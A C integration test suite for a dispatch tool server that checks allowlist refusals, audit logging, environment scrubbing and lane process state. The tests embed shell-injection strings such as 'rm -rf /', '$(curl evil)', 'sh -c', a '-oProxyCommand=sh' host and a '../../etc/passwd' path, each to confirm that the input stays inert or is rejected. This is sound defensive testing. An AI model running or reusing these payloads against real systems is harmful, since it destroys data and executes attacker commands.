/*
 * dispatch_unit and friends against the real binary and a real lane:
 * what the lane receives, what is refused before anything runs, what is
 * audited, and the status/result/list round trips.
 */
#include "config.h"

#include <sys/wait.h>

#include <sys/stat.h>

#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "tests/integration/harness.h"

#define INJECTION \
	"oops\"; rm -rf / #  $(curl evil) `whoami` && echo pwned | sh -c x"

static struct json_object *
call_unit(struct srv *s, const char *org, const char *repo, const char *task)
{
	struct json_object	*args, *r;

	args = json_object_new_object();
	if (org != NULL)
		json_object_object_add(args, "orguser",
		    json_object_new_string(org));
	if (repo != NULL)
		json_object_object_add(args, "repo",
		    json_object_new_string(repo));
	if (task != NULL)
		json_object_object_add(args, "task_description",
		    json_object_new_string(task));
	r = srv_call(s, "dispatch_unit", json_object_to_json_string_ext(args,
	    JSON_C_TO_STRING_PLAIN));
	json_object_put(args);
	return (r);
}

static void
test_allowlisted_dispatch(void **state)
{
	struct srv		*s = srv_start_init(NULL);
	struct json_object	*r, *v;
	const char		*h;

	r = call_unit(s, "nash-forbes", "nash", "do the thing");
	assert_non_null(r);
	assert_false(result_is_error(r));
	v = result_struct(r);
	assert_string_equal(jget_str(v, "status"), "running");
	assert_string_equal(jget_str(v, "github"), "selamy-labs/nash");
	assert_string_equal(jget_str(v, "orguser"), "nash-forbes");
	assert_string_equal(jget_str(v, "repo"), "nash");
	h = jget_str(v, "handle");
	assert_int_equal(strlen(h), 36);
	assert_memory_equal(h, "dsp-", 4);
	assert_int_equal(strspn(h + 4, "0123456789abcdef"), 32);
	assert_non_null(strstr(jget_str(v, "requested_at"), "Z"));
	/* The text content is the same JSON as structuredContent. */
	assert_non_null(strstr(result_text(r), h));
	json_object_put(wait_final(s, h, 10000));
	json_object_put(r);
	assert_int_equal(srv_count_files(s, ".started"), 1);
	assert_int_equal(srv_close(s, 10000), 0);
	srv_free(s);
}

static void
test_injection_is_inert(void **state)
{
	struct srv	*s = srv_start_init(NULL);
	const char	*h;
	char		*in, *argv, *p;
	size_t		 len;
	int		 n = 0;

	h = dispatch_ok(s, "nash-forbes", "nash", INJECTION);
	json_object_put(wait_final(s, h, 10000));
	/* The task arrives on stdin, byte for byte. */
	in = srv_file(s, h, "stdin", &len);
	assert_non_null(in);
	assert_int_equal(len, strlen(INJECTION));
	assert_memory_equal(in, INJECTION, len);
	/* The argv is fixed: no shell, no -c, no task. */
	argv = srv_file(s, h, "argv", NULL);
	assert_non_null(argv);
	assert_string_equal(argv,
	    "nash-forbes\nnash\n--host\nlocalhost\n--max\n50\n");
	for (p = strtok(argv, "\n"); p != NULL; p = strtok(NULL, "\n")) {
		assert_string_not_equal(p, "sh");
		assert_string_not_equal(p, "bash");
		assert_string_not_equal(p, "-c");
		assert_string_not_equal(p, "/bin/sh");
		n++;
	}
	assert_int_equal(n, 6);
	assert_int_equal(srv_count_files(s, ".started"), 1);
	free(in);
	free(argv);
	srv_free(s);
}

static void
test_option_like_task_stays_data(void **state)
{
	struct srv	*s = srv_start_init(NULL);
	const char	*h;
	char		*in, *argv;

	h = dispatch_ok(s, "nash-forbes", "nash", "--help -rf --host=evil");
	json_object_put(wait_final(s, h, 10000));
	in = srv_file(s, h, "stdin", NULL);
	argv = srv_file(s, h, "argv", NULL);
	assert_string_equal(in, "--help -rf --host=evil");
	assert_null(strstr(argv, "evil"));
	free(in);
	free(argv);
	srv_free(s);
}

static void
test_task_arg_mode(void **state)
{
	const char *env[] = { "DISPATCH_TASK_ARG=1",
	    "DISPATCH_SSH_HOST=build.example.org",
	    "DISPATCH_MAX_ITERATIONS=7", NULL };
	struct srv		*s = srv_start_init(env);
	struct json_object	*r;
	const char		*h;
	char			*argv, *in, want[512];

	h = dispatch_ok(s, "nash-forbes", "nash", INJECTION);
	json_object_put(wait_final(s, h, 10000));
	argv = srv_file(s, h, "argv", NULL);
	/* Byte for byte the original server's argv. */
	snprintf(want, sizeof want, "nash-forbes\nnash\n%s\n--host\n"
	    "build.example.org\n--max\n7\n", INJECTION);
	assert_string_equal(argv, want);
	in = srv_file(s, h, "stdin", NULL);
	assert_string_equal(in, "");
	free(argv);
	free(in);

	/* Here a task that starts with '-' could become an option. */
	r = call_unit(s, "nash-forbes", "nash", "--delete-everything");
	assert_true(result_is_error(r));
	assert_non_null(strstr(result_text(r), "may not start with '-'"));
	json_object_put(r);
	assert_int_equal(srv_count_files(s, ".started"), 1);
	assert_int_equal(audit_count(s, "rejected"), 1);
	srv_free(s);
}

struct refusal {
	const char	*org;
	const char	*repo;
	const char	*task;
	const char	*message;
};

static void
test_refused_before_anything_runs(void **state)
{
	static char	 longtask[9001];
	struct refusal	 cases[] = {
		{ "nash-forbes", "nope", "t", "unknown repo 'nope': not in "
		    "the dispatch allowlist (['nash', 'reid'])" },
		{ "reid-max", "nash", "t", "orguser 'reid-max' does not own "
		    "repo 'nash'; that repo dispatches to 'nash-forbes'" },
		{ "ghost-user", "nash", "t", "unknown orguser 'ghost-user': "
		    "not declared in the dispatch allowlist" },
		{ "ghost-user", "orphan", "t", "unknown repo 'orphan'" },
		{ "nash;rm -rf /", "nash", "t", "invalid orguser 'nash;rm "
		    "-rf /': must match" },
		{ "../etc", "nash", "t", "invalid orguser '../etc'" },
		{ "nash-forbes", "selamy-labs/nash", "t",
		    "invalid repo 'selamy-labs/nash'" },
		{ "*", "nash", "t", "invalid orguser '*'" },
		{ "", "nash", "t", "orguser must not be empty" },
		{ "nash-forbes", "  ", "t", "repo must not be empty" },
		{ "nash-forbes", "nash", " \n\t ", "task_description must not "
		    "be empty" },
		{ "nash-forbes", "nash", longtask, "task_description too long: "
		    "9000 > 8000 characters" },
		{ "nash-forbes", "NASH", "t", "unknown repo 'NASH'" },
		{ "nash-forbes", NULL, "t", "missing required argument "
		    "'repo'" },
	};
	struct srv		*s = srv_start_init(NULL);
	struct json_object	*r;
	size_t			 i;

	memset(longtask, 'x', 9000);
	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		r = call_unit(s, cases[i].org, cases[i].repo, cases[i].task);
		assert_non_null(r);
		assert_true(result_is_error(r));
		if (strstr(result_text(r), cases[i].message) == NULL)
			fail_msg("case %zu: got '%s'", i, result_text(r));
		json_object_put(r);
	}
	/* Nothing ran, and every refusal is on record. */
	assert_int_equal(srv_count_files(s, ".started"), 0);
	assert_int_equal(audit_count(s, "dispatch"), 0);
	assert_int_equal(audit_count(s, "rejected"),
	    (int)(sizeof cases / sizeof cases[0]));
	srv_free(s);
}

static void
test_padded_names_accepted(void **state)
{
	struct srv		*s = srv_start_init(NULL);
	struct json_object	*r;

	r = call_unit(s, "  nash-forbes ", " nash\t", "  padded task  ");
	assert_false(result_is_error(r));
	assert_string_equal(jget_str(result_struct(r), "orguser"),
	    "nash-forbes");
	json_object_put(wait_final(s, jget_str(result_struct(r), "handle"),
	    10000));
	json_object_put(r);
	srv_free(s);
}

static void
test_round_trips(void **state)
{
	struct srv		*s = srv_start_init(NULL);
	struct json_object	*r, *v, *list;
	char			 h1[64], h2[64], args[128];

	snprintf(h1, sizeof h1, "%s", dispatch_ok(s, "nash-forbes", "nash",
	    "first"));
	snprintf(h2, sizeof h2, "%s", dispatch_ok(s, "reid-max", "reid",
	    "second"));

	r = wait_final(s, h1, 10000);
	v = result_struct(r);
	assert_string_equal(jget_str(v, "status"), "succeeded");
	assert_int_equal(jget_int(v, "returncode"), 0);
	assert_true(json_object_is_type(jget(v, "signal"), json_type_null));
	{
		char want[80];

		snprintf(want, sizeof want, "ok %s", h1);
		assert_string_equal(jget_str(v, "detail"), want);
	}
	assert_non_null(jget_str(v, "finished_at"));
	assert_true(jget_int(v, "duration_ms") >= 0);
	json_object_put(r);
	json_object_put(wait_final(s, h2, 10000));

	snprintf(args, sizeof args, "{\"handle\":\"%s\"}", h2);
	r = srv_call(s, "dispatch_status", args);
	assert_string_equal(jget_str(result_struct(r), "status"), "succeeded");
	assert_null(jget(result_struct(r), "returncode"));
	json_object_put(r);

	r = srv_call(s, "dispatch_list", "{}");
	v = result_struct(r);
	assert_int_equal(jget_int(v, "count"), 2);
	assert_null(jget(v, "total"));
	list = jget(v, "dispatches");
	assert_int_equal(json_object_array_length(list), 2);
	assert_string_equal(jget_str(json_object_array_get_idx(list, 0),
	    "handle"), h1);
	assert_string_equal(jget_str(json_object_array_get_idx(list, 1),
	    "handle"), h2);
	assert_null(jget(v, "next_cursor"));
	json_object_put(r);
	srv_free(s);
}

static void
test_empty_list(void **state)
{
	struct srv		*s = srv_start_init(NULL);
	struct json_object	*r;

	r = srv_call(s, "dispatch_list", "{}");
	assert_string_equal(json_object_to_json_string_ext(result_struct(r),
	    JSON_C_TO_STRING_PLAIN), "{\"count\":0,\"dispatches\":[]}");
	json_object_put(r);
	srv_free(s);
}

static void
test_unknown_handles(void **state)
{
	struct srv		*s = srv_start_init(NULL);
	struct json_object	*r;
	const char		*tools[] = { "dispatch_status",
				    "dispatch_result" };
	const char		*handles[] = {
		"dsp-00000000000000000000000000000000",
		"dsp-0123", "DSP-00000000000000000000000000000000",
		"dsp-ABCDEF00000000000000000000000000", "../../etc/passwd",
	};
	char			 args[256];
	size_t			 i, j;

	for (i = 0; i < 2; i++) {
		for (j = 0; j < sizeof handles / sizeof handles[0]; j++) {
			snprintf(args, sizeof args, "{\"handle\":\"%s\"}",
			    handles[j]);
			r = srv_call(s, tools[i], args);
			assert_true(result_is_error(r));
			assert_non_null(strstr(result_text(r),
			    "unknown dispatch handle '"));
			json_object_put(r);
		}
	}
	srv_free(s);
}

static void
test_failing_lane(void **state)
{
	struct srv		*s = srv_start_init(NULL);
	struct json_object	*r, *v, *recs, *rec;
	const char		*h;
	size_t			 i;
	int			 exits = 0;

	h = dispatch_ok(s, "nash-forbes", "nash", "fail");
	r = wait_final(s, h, 10000);
	v = result_struct(r);
	assert_string_equal(jget_str(v, "status"), "failed");
	assert_int_equal(jget_int(v, "returncode"), 2);
	assert_string_equal(jget_str(v, "detail"),
	    "dispatch refused: stale token");
	json_object_put(r);

	recs = audit_records(s);
	for (i = 0; i < json_object_array_length(recs); i++) {
		rec = json_object_array_get_idx(recs, i);
		if (strcmp(jget_str(rec, "event"), "exit") != 0)
			continue;
		exits++;
		assert_string_equal(jget_str(rec, "handle"), h);
		assert_string_equal(jget_str(rec, "status"), "failed");
		assert_int_equal(jget_int(rec, "returncode"), 2);
	}
	assert_int_equal(exits, 1);
	json_object_put(recs);
	srv_free(s);
}

static void
test_missing_program_at_call_time(void **state)
{
	char			 lane[600], cmd[1400], env0[700];
	const char		*env[] = { env0, NULL };
	struct srv		*s;
	struct json_object	*r, *v;
	const char		*h;
	char			 tmpl[] = "/tmp/dispatch-lane.XXXXXX";

	assert_non_null(mkdtemp(tmpl));
	snprintf(lane, sizeof lane, "%s/lane", tmpl);
	snprintf(cmd, sizeof cmd, "cp '%s' '%s'", lane_path("record-lane"),
	    lane);
	assert_int_equal(system(cmd), 0);
	snprintf(env0, sizeof env0, "DISPATCH_COMMAND=%s", lane);
	s = srv_start_init(env);
	/* Pinned at start; gone by the time a dispatch arrives. */
	assert_int_equal(unlink(lane), 0);
	rmdir(tmpl);
	h = dispatch_ok(s, "nash-forbes", "nash", "anything");
	r = wait_final(s, h, 10000);
	v = result_struct(r);
	assert_string_equal(jget_str(v, "status"), "failed");
	assert_true(json_object_is_type(jget(v, "returncode"),
	    json_type_null));
	assert_non_null(strstr(jget_str(v, "detail"), "failed to start lane"));
	assert_non_null(strstr(jget_str(v, "detail"), "No such file"));
	json_object_put(r);
	assert_int_equal(audit_count(s, "dispatch"), 1);
	assert_int_equal(audit_count(s, "exit"), 1);
	srv_free(s);
}

static void
test_lane_environment(void **state)
{
	const char	*env[] = { "LANG=C.UTF-8", "SSH_AUTH_SOCK=/tmp/agent.1",
			    "HOME=/home/lane-test", NULL };
	struct srv	*s = srv_start_init(env);
	const char	*h;
	char		*e, *line, *save = NULL;
	int		 n = 0;

	h = dispatch_ok(s, "nash-forbes", "nash", "env");
	json_object_put(wait_final(s, h, 10000));
	e = srv_file(s, h, "env", NULL);
	assert_non_null(e);
	assert_null(strstr(e, "TEST_CANARY"));
	assert_null(strstr(e, "DISPATCH_REPOS_JSON"));
	assert_null(strstr(e, "DISPATCH_AUDIT_LOG"));
	assert_non_null(strstr(e, "PATH=/usr/local/bin:/usr/bin:/bin\n"));
	assert_non_null(strstr(e, "SSH_AUTH_SOCK=/tmp/agent.1\n"));
	assert_non_null(strstr(e, "HOME=/home/lane-test\n"));
	assert_non_null(strstr(e, "DISPATCH_GITHUB=selamy-labs/nash\n"));
	assert_non_null(strstr(e, "DISPATCH_ORGUSER=nash-forbes\n"));
	assert_non_null(strstr(e, "DISPATCH_REPO=nash\n"));
	/* Every variable is one the contract names (sh adds PWD etc). */
	for (line = strtok_r(e, "\n", &save); line != NULL;
	    line = strtok_r(NULL, "\n", &save)) {
		static const char *ok[] = { "PATH=", "HOME=", "USER=",
		    "LOGNAME=", "LANG=", "SSH_AUTH_SOCK=", "LANE_DIR=",
		    "LANE_AUDIT=", "DISPATCH_HANDLE=", "DISPATCH_ORGUSER=",
		    "DISPATCH_REPO=", "DISPATCH_GITHUB=", "PWD=", "SHLVL=",
		    "OLDPWD=", "_=" };
		size_t	i;
		int	found = 0;

		for (i = 0; i < sizeof ok / sizeof ok[0]; i++)
			found |= strncmp(line, ok[i], strlen(ok[i])) == 0;
		if (!found)
			fail_msg("unexpected variable in the lane: %s", line);
		n++;
	}
	assert_true(n >= 10);
	free(e);
	srv_free(s);
}

static void
test_lane_process_state(void **state)
{
	struct srv	*s = srv_start_init(NULL);
	const char	*h;
	char		*u, *fds;

	h = dispatch_ok(s, "nash-forbes", "nash", "state");
	json_object_put(wait_final(s, h, 10000));
	u = srv_file(s, h, "umask", NULL);
	assert_string_equal(u, "0077\n");
	/* Only stdin, stdout, stderr (and ls's own directory handle). */
	fds = srv_file(s, h, "fds", NULL);
	assert_string_equal(fds, "0\n1\n2\n3\n");
	free(u);
	free(fds);
	srv_free(s);
}

static void
test_default_audit_path(void **state)
{
	char		 state_home[600], path[700], env0[640];
	const char	*env[] = { "DISPATCH_AUDIT_LOG=", env0, NULL };
	struct srv	*s;
	struct stat	 st;
	char		 tmpl[] = "/tmp/dispatch-xdg.XXXXXX";

	assert_non_null(mkdtemp(tmpl));
	snprintf(state_home, sizeof state_home, "%s/state", tmpl);
	snprintf(env0, sizeof env0, "XDG_STATE_HOME=%s", state_home);
	s = srv_start_init(env);
	json_object_put(wait_final(s, dispatch_ok(s, "nash-forbes", "nash",
	    "t"), 10000));
	/* Directories made 0700 and the log 0600, where XDG says. */
	snprintf(path, sizeof path, "%s/dispatch-mcp", state_home);
	assert_int_equal(stat(path, &st), 0);
	assert_int_equal(st.st_mode & 07777, 0700);
	assert_int_equal(stat(state_home, &st), 0);
	assert_int_equal(st.st_mode & 07777, 0700);
	snprintf(path, sizeof path, "%s/dispatch-mcp/audit.jsonl",
	    state_home);
	assert_int_equal(stat(path, &st), 0);
	assert_int_equal(st.st_mode & 07777, 0600);
	assert_true(st.st_size > 0);
	srv_free(s);
	snprintf(path, sizeof path, "rm -rf '%s'", tmpl);
	assert_int_equal(system(path), 0);
}

/* Per-target hosts: the repo's, else its org's, else DISPATCH_SSH_HOST. */
static void
test_target_hosts(void **state)
{
	const char	*env[] = { "DISPATCH_SSH_HOST=default.example.org",
			    NULL };
	struct srv	*s = srv_start_init(env);
	const char	*h;
	char		*argv, want[256];
	int		 i;
	static const struct {
		const char	*org, *repo, *host;
	} cases[] = {
		{ "o", "inherits", "org.example.org" },
		{ "o", "own", "10.0.0.7" },
		{ "p", "plain", "default.example.org" },
	};

	write_file(s->repos, "{\"orgs\":{\"o\":{\"host\":"
	    "\"org.example.org\"},\"p\":{}},\"repos\":{"
	    "\"inherits\":{\"org\":\"o\"},"
	    "\"own\":{\"org\":\"o\",\"host\":\"10.0.0.7\"},"
	    "\"plain\":{\"org\":\"p\"},"
	    "\"evil\":{\"org\":\"p\",\"host\":\"-oProxyCommand=sh\"}}}");
	for (i = 0; i < 3; i++) {
		h = dispatch_ok(s, cases[i].org, cases[i].repo, "t");
		json_object_put(wait_final(s, h, 10000));
		argv = srv_file(s, h, "argv", NULL);
		assert_non_null(argv);
		snprintf(want, sizeof want, "%s\n%s\n--host\n%s\n--max\n50\n",
		    cases[i].org, cases[i].repo, cases[i].host);
		assert_string_equal(argv, want);
		free(argv);
	}
	/* An entry with a bad host is skipped, with the reason logged. */
	json_object_put(call_unit(s, "p", "evil", "t"));
	assert_int_equal(srv_count_files(s, ".started"), 3);
	assert_int_equal(srv_close(s, 10000), 0);
	assert_non_null(strstr(srv_stderr(s), "skipping 'evil': \"host\" is "
	    "not a host name or address"));
	srv_free(s);
}

static void
test_allowlist_reread(void **state)
{
	struct srv		*s = srv_start_init(NULL);
	struct json_object	*r;

	r = call_unit(s, "nash-forbes", "newrepo", "t");
	assert_true(result_is_error(r));
	json_object_put(r);
	/* An edit applies to the next dispatch, without a restart. */
	write_file(s->repos, "{\"orgs\":{\"nash-forbes\":{}},\"repos\":"
	    "{\"newrepo\":{\"org\":\"nash-forbes\"}}}");
	r = call_unit(s, "nash-forbes", "newrepo", "t");
	assert_false(result_is_error(r));
	assert_string_equal(jget_str(result_struct(r), "github"), "newrepo");
	json_object_put(r);
	/* A broken or missing file is a tool error, not a crash. */
	write_file(s->repos, "{not json");
	r = call_unit(s, "nash-forbes", "newrepo", "t");
	assert_true(result_is_error(r));
	assert_non_null(strstr(result_text(r), "is not valid JSON"));
	json_object_put(r);
	unlink(s->repos);
	r = call_unit(s, "nash-forbes", "newrepo", "t");
	assert_true(result_is_error(r));
	assert_non_null(strstr(result_text(r), "cannot be read"));
	json_object_put(r);
	r = srv_request(s, "ping", NULL);
	assert_non_null(jget(r, "result"));
	json_object_put(r);
	srv_free(s);
}

static void
test_audited_before_spawn(void **state)
{
	struct srv		*s = srv_start_init(NULL);
	struct json_object	*recs, *rec;
	const char		*h;
	char			*n;
	size_t			 i;
	int			 found = 0;

	h = dispatch_ok(s, "nash-forbes", "nash", INJECTION);
	json_object_put(wait_final(s, h, 10000));
	/* The lane looked for its record as its first act, and found it. */
	n = srv_file(s, h, "audited", NULL);
	assert_non_null(n);
	assert_string_equal(n, "1\n");
	free(n);
	recs = audit_records(s);
	for (i = 0; i < json_object_array_length(recs); i++) {
		rec = json_object_array_get_idx(recs, i);
		if (strcmp(jget_str(rec, "event"), "dispatch") != 0)
			continue;
		found++;
		assert_string_equal(jget_str(rec, "task"), INJECTION);
		assert_string_equal(jget_str(rec, "delivery"), "stdin");
		assert_string_equal(jget_str(rec, "github"), "selamy-labs/nash");
		assert_int_equal(json_object_array_length(jget(rec, "argv")),
		    7);
		assert_string_equal(jget_str(jget(rec, "client"), "name"),
		    "harness");
		assert_int_equal(strlen(jget_str(rec, "session")), 32);
		assert_int_equal(jget_int(rec, "server_pid"), s->pid);
		assert_non_null(jget_str(rec, "ts"));
		assert_non_null(jget_str(rec, "user"));
	}
	assert_int_equal(found, 1);
	json_object_put(recs);
	srv_free(s);
}

/*
 * A device is no audit log (/dev/full once stood for an unwritable one):
 * refused at start, in one line.  A log that stops taking records is
 * test-faults' test_audit_log_fills_up.
 */
static void
test_unwritable_audit_refuses(void **state)
{
	const char	*env[] = { "DISPATCH_AUDIT_LOG=/dev/full", NULL };
	struct srv	*s;
	int		 st;

	s = srv_start(env);
	st = srv_wait(s, 10000);
	assert_true(WIFEXITED(st) && WEXITSTATUS(st) == 1);
	assert_non_null(strstr(srv_stderr(s), "DISPATCH_AUDIT_LOG /dev/full: "
	    "not a regular file but a character device"));
	srv_free(s);
}

static void
test_busy_limit(void **state)
{
	const char		*env[] = { "DISPATCH_MAX_RUNNING=1", NULL };
	struct srv		*s = srv_start_init(env);
	struct json_object	*r;
	char			 h[64];

	snprintf(h, sizeof h, "%s", dispatch_ok(s, "nash-forbes", "nash",
	    "sleep 2"));
	r = call_unit(s, "reid-max", "reid", "t");
	assert_true(result_is_error(r));
	assert_non_null(strstr(result_text(r), "busy"));
	json_object_put(r);
	assert_int_equal(audit_count(s, "rejected"), 1);
	json_object_put(wait_final(s, h, 10000));
	/* A slot is free again once the first lane ends. */
	r = call_unit(s, "reid-max", "reid", "t");
	assert_false(result_is_error(r));
	json_object_put(r);
	srv_free(s);
}

static void
test_long_poll(void **state)
{
	struct srv		*s = srv_start_init(NULL);
	struct json_object	*r;
	char			 h[64], args[128];

	snprintf(h, sizeof h, "%s", dispatch_ok(s, "nash-forbes", "nash",
	    "sleep 0.5"));
	snprintf(args, sizeof args, "{\"handle\":\"%s\",\"wait_seconds\":30}",
	    h);
	r = srv_call(s, "dispatch_result", args);
	assert_string_equal(jget_str(result_struct(r), "status"), "succeeded");
	assert_string_equal(jget_str(result_struct(r), "detail"), "slept");
	json_object_put(r);
	/* An expired wait answers with the current state. */
	snprintf(h, sizeof h, "%s", dispatch_ok(s, "nash-forbes", "nash",
	    "sleep 5"));
	snprintf(args, sizeof args, "{\"handle\":\"%s\",\"wait_seconds\":0.2}",
	    h);
	r = srv_call(s, "dispatch_result", args);
	assert_string_equal(jget_str(result_struct(r), "status"), "running");
	assert_true(json_object_is_type(jget(result_struct(r),
	    "finished_at"), json_type_null));
	json_object_put(r);
	snprintf(args, sizeof args, "{\"handle\":\"%s\",\"wait_seconds\":51}",
	    h);
	r = srv_call(s, "dispatch_result", args);
	assert_true(result_is_error(r));
	assert_string_equal(result_text(r), "wait_seconds must be a number "
	    "from 0 to 50");
	json_object_put(r);
	srv_free(s);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_allowlisted_dispatch),
		cmocka_unit_test(test_injection_is_inert),
		cmocka_unit_test(test_option_like_task_stays_data),
		cmocka_unit_test(test_task_arg_mode),
		cmocka_unit_test(test_refused_before_anything_runs),
		cmocka_unit_test(test_padded_names_accepted),
		cmocka_unit_test(test_round_trips),
		cmocka_unit_test(test_empty_list),
		cmocka_unit_test(test_unknown_handles),
		cmocka_unit_test(test_failing_lane),
		cmocka_unit_test(test_missing_program_at_call_time),
		cmocka_unit_test(test_lane_environment),
		cmocka_unit_test(test_lane_process_state),
		cmocka_unit_test(test_default_audit_path),
		cmocka_unit_test(test_target_hosts),
		cmocka_unit_test(test_allowlist_reread),
		cmocka_unit_test(test_audited_before_spawn),
		cmocka_unit_test(test_unwritable_audit_refuses),
		cmocka_unit_test(test_busy_limit),
		cmocka_unit_test(test_long_poll),
	};

	return (cmocka_run_group_tests(tests, NULL, NULL));
}
